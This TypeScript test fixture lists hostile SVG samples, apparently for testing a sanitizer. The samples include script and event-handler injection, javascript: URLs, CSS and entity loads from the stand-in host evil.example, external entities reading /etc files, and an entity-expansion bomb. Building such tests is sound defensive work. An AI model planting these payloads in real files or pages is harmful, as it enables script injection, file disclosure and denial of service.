const outer = 'https://evil.example/x';
const lines = (text: string) => text.trim().split('\n');

// Contents of a drawing, by kind. Most of them run a script or load something. All of them contain `evil`.
const scripts = lines(`
<script>evil()</script>
<script href="${outer}"/>
<script xlink:href="${outer}"/>
<script type="text/ecmascript">evil()</script>
<script type="module">import "${outer}"</script>
<script><![CDATA[evil()]]></script>
<g><script>evil()</script></g>
<defs><script>evil()</script></defs>
<h:script xmlns:h="http://www.w3.org/1999/xhtml">evil()</h:script>
<script xmlns="http://www.w3.org/1999/xhtml">evil()</script>
<s:script xmlns:s="http://www.w3.org/2000/svg">evil()</s:script>
<SCRIPT>evil()</SCRIPT>
<text><script>evil()</script></text>
<style><script>evil()</script></style>
<title><script>evil()</script></title>
<desc><script>evil()</script></desc>
<handler type="application/ecmascript" event="load">evil()</handler>
<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#evil"/>
<switch><script>evil()</script></switch>
<mask><script>evil()</script></mask>
`);
const handlers = [
  ...['load', 'error', 'click', 'mouseover', 'focusin', 'activate', 'begin', 'end', 'repeat', 'unload', 'scroll'],
  ...['zoom', 'resize', 'abort', 'pointerenter', 'animationstart', 'transitionend', 'wheel', 'toggle', 'auxclick'],
].map((event) => `<path d="M0 0" on${event}="evil()"/>`);
const spelledHandlers = lines(`
<path d="M0 0" ONLOAD="evil()"/>
<path d="M0 0" OnLoad="evil()"/>
<path d="M0 0" onload="&#101;vil()" data-x="evil"/>
<path d="M0 0" xmlns:e="http://www.w3.org/2001/xml-events" e:handler="evil()"/>
<svg onload="evil()"><path d="M0 0"/></svg>
<g onload="evil()"><path d="M0 0"/></g>
<text onclick="evil()">x</text>
<use href="#a" onload="evil()"/>
<filter id="f" onload="evil()"/>
<animateTransform attributeName="transform" onbegin="evil()" dur="1s"/>
`);
const foreign = lines(`
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${outer}"/></foreignObject>
<foreignObject><h:body xmlns:h="http://www.w3.org/1999/xhtml" onload="evil()"/></foreignObject>
<foreignObject requiredExtensions="http://www.w3.org/1999/xhtml"><h:embed xmlns:h="http://www.w3.org/1999/xhtml" src="${outer}"/></foreignObject>
<switch><foreignObject><h:object xmlns:h="http://www.w3.org/1999/xhtml" data="${outer}"/></foreignObject></switch>
<s:foreignObject xmlns:s="http://www.w3.org/2000/svg"><path d="evil"/></s:foreignObject>
<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:evil()"/>
<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="evil()"/>
<h:video xmlns:h="http://www.w3.org/1999/xhtml" src="${outer}"/>
<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${outer}"/>
<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${outer}"/>
<h:base xmlns:h="http://www.w3.org/1999/xhtml" href="${outer}"/>
<h:form xmlns:h="http://www.w3.org/1999/xhtml" action="${outer}"><h:input autofocus="" onfocus="evil()"/></h:form>
<m:math xmlns:m="http://www.w3.org/1998/Math/MathML" href="javascript:evil()"/>
<video xmlns="http://www.w3.org/2000/svg" href="${outer}"/>
<audio href="${outer}"/>
<iframe href="${outer}"/>
<animation href="${outer}"/>
<discard href="#evil"/>
<cursor href="${outer}"/>
<font-face><font-face-src><font-face-uri href="${outer}"/></font-face-src></font-face>
`);
const references = [
  ...['image', 'feImage', 'use', 'a', 'tref', 'mpath', 'textPath', 'linearGradient', 'radialGradient', 'pattern'],
  ...['filter', 'glyphRef', 'altGlyph', 'color-profile', 'script', 'set', 'animate', 'animateMotion'],
].flatMap((name) => [`<${name} href="${outer}"/>`, `<${name} xlink:href="${outer}#a"/>`]);
const spelledReferences = lines(`
<use href="data:image/svg+xml,&lt;svg id='x' onload='evil()'/&gt;#x"/>
<use href=" ${outer}#a"/>
<use href="//evil.example/x#a"/>
<use href="evil.svg#a"/>
<use HREF="${outer}#a"/>
<use l:href="${outer}#a" xmlns:l="http://www.w3.org/1999/xlink"/>
<a href="javascript:evil()"><path d="M0 0"/></a>
<a href="java&#10;script:evil()"><path d="M0 0"/></a>
<a href="&#1;javascript:evil()"><path d="M0 0"/></a>
<a href="vbscript:evil()"><path d="M0 0"/></a>
<image href="file:///etc/evil"/>
<image srcset="${outer} 2x" href="#a"/>
<image xlink:href="\\\\evil.example\\x"/>
`);
const animations = ['animate', 'set', 'animateColor', 'animateTransform'].flatMap((name) => [
  `<a><${name} attributeName="href" to="javascript:evil()"/><path d="M0 0"/></a>`,
  `<use href="#a"><${name} attributeName="xlink:href" values="#a;${outer}#b"/></use>`,
  `<path d="M0 0"><${name} attributeName="onclick" to="evil()"/></path>`,
  `<path d="M0 0"><${name} attributeName="style" from="fill:url(${outer})"/></path>`,
  `<path d="M0 0"><${name} attributeName="fill" by="url(${outer})"/></path>`,
]);
const styles = lines(`
@import "${outer}";
@import url(${outer});
@IMPORT '${outer}';
@im\\port "${outer}";
@\\0069mport "${outer}";
path{fill:url(${outer})}
path{fill:url('${outer}#a')}
path{fill:URL( ${outer} )}
path{fill:url(/**/${outer})}
path{fill:u\\rl(${outer})}
path{fill:\\75 rl(${outer})}
path{filter:url("//evil.example/x#f")}
path{mask:url(data:image/svg+xml,evil)}
path{cursor:url(${outer}),auto}
path{background:image("${outer}")}
path{background:-webkit-cross-fade(url(${outer}),url(${outer}),50%)}
path{background:image-set(url(${outer}) 1x)}
path{behavior:url(${outer})}
path{-moz-binding:url(${outer}#x)}
@font-face{font-family:x;src:url(${outer})}
@namespace url(${outer});
@media all{path{fill:url(${outer})}}
@supports (fill:red){path{fill:url(${outer})}}
path{&:hover{fill:url(${outer})}}
:root{--e:url(${outer})}path{fill:var(--e)}
@property --e{syntax:"<url>";inherits:true;initial-value:url(${outer})}
path[d^="M"]{mask:url(${outer})}
path{clip-path:url('#a'),url(${outer})}
`).flatMap((style) => [
  `<style>${style.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</style>`,
  `<style><![CDATA[${style}]]></style>`,
]);
const paints = ['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'marker-end', 'cursor'].flatMap(
  (name) => [
    `<path d="M0 0" ${name}="url(${outer}#a)"/>`,
    `<path d="M0 0" style="${name}:url(&quot;//evil.example/x&quot;)"/>`,
  ],
);
const beside = lines(`
<?xml-stylesheet href="${outer}"?>
<?php evil() ?>
<?evil ?>
<!-- evil -->
<g xml:base="${outer}"><use href="#a"/></g>
<metadata>evil</metadata>
`);

export const hostileDrawings: readonly string[] = [
  ...[...scripts, ...handlers, ...spelledHandlers, ...foreign, ...references, ...spelledReferences],
  ...[...animations, ...styles, ...paints, ...beside],
];

/** Whole files with hostile content, for example in an entity or the document type. The app may refuse them. */
export const hostileFiles: readonly string[] = [
  '<!DOCTYPE svg [<!ENTITY e "&#60;script>evil()&#60;/script>">]><svg xmlns="http://www.w3.org/2000/svg"><g>&e;</g><path d="M0 0"/></svg>',
  '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/evil">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>',
  `<!DOCTYPE svg [<!ENTITY % e SYSTEM "${outer}"> %e;]><svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`,
  `<!DOCTYPE svg SYSTEM "${outer}"><svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`,
  `<!DOCTYPE svg [<!ATTLIST path onload CDATA "evil()">]><svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`,
  `<!DOCTYPE svg [<!ENTITY a "evil">${[...'bcdefghij'].map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghij'[at] ?? ''};`.repeat(10)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`,
  `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${outer}"?><svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`,
  '<svg xmlns="http://www.w3.org/2000/svg" onload="evil()"><path d="M0 0"/></svg>',
  `<svg xmlns="http://www.w3.org/2000/svg" xml:base="${outer}"><path d="M0 0"/></svg>`,
  '<html xmlns="http://www.w3.org/1999/xhtml"><script>evil()</script><svg xmlns="http://www.w3.org/2000/svg"/></html>',
];
